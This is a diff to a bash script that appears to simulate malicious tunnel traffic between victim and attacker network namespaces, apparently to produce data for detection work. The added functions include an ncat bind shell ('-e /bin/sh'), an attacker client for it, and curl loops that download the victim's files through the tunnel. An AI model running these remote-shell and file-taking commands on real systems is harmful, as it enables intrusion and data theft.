@@ -290,5 +290,28 @@ mal_done() {
     netns_say "$MAL_CLASS $FC_BATCH: $((MAL_SESSIONS - failed)) of $MAL_SESSIONS sessions in $(( $(date +%s) - MAL_START )) s -> $MAL_OUT"
 }
 
+# The tunnel classes' two ends of a session, on HOST PORT at the far end of the tunnel: on the
+# victim a shell served by ncat, or the victim's files served by python's http.server; on
+# the attacker ncat typing into that shell.
+tunnel_target_shell() { ncat -n -l -k "$1" "$2" -e "$(pick /bin/sh /bin/bash)"; }
+tunnel_target_web()   { cd "$MAL_VICTIM/data" && exec /usr/bin/python3 -m http.server --bind "$1" "$2"; }
+tunnel_use_shell()    { ncat -n "$1" "$2"; }
+
+# tunnel_downloads HOST:PORT MAX_TIME LAST [varied-rate]: 1-4 downloads of the victim's files
+# (blob1..LAST, notes1..LAST) through the tunnel at an operator's pace; varied-rate: one in
+# three limited to 20-200 KB/s.
+tunnel_downloads() {
+    local where=$1 max_time=$2 last=$3 varied=${4:-} n i
+    n=$(rand 1 4)
+    nap_ms 300 1500
+    for i in $(seq "$n"); do
+        # shellcheck disable=SC2046  # the limit is two words or none
+        in_cli curl -s -o /dev/null --max-time "$max_time" \
+            "http://$where/$(pick blob notes)$(rand 1 "$last").$(pick bin txt)" \
+            $([ -n "$varied" ] && pick "" "" "--limit-rate $(rand 20 200)k")
+        operator_pause
+    done
+}
+
 # the victims' and attackers' functions run in a bash of their own (ns_run)
-export -f rand pick
+export -f rand pick tunnel_target_shell tunnel_target_web tunnel_use_shell
